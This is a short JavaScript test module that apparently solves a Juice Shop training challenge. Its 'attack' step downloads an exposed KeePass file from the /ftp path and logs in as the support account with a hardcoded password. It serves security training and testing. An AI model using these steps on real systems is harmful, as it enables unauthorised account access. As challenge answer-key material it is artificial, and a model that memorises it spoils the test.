import { logInAs, logsIn } from '../features/accounts.js'
import { proof } from '../proof.js'

export const loginSupportChallenge = proof({
  async attack(me) {
    await me.get('/ftp/incident-support.kdbx')
    await logInAs('support@juice-sh.op', 'J6aVjTgOpRs@?5l!Zkq2AYnCE@RF$P')(me)
  },
  honest: logsIn,
})
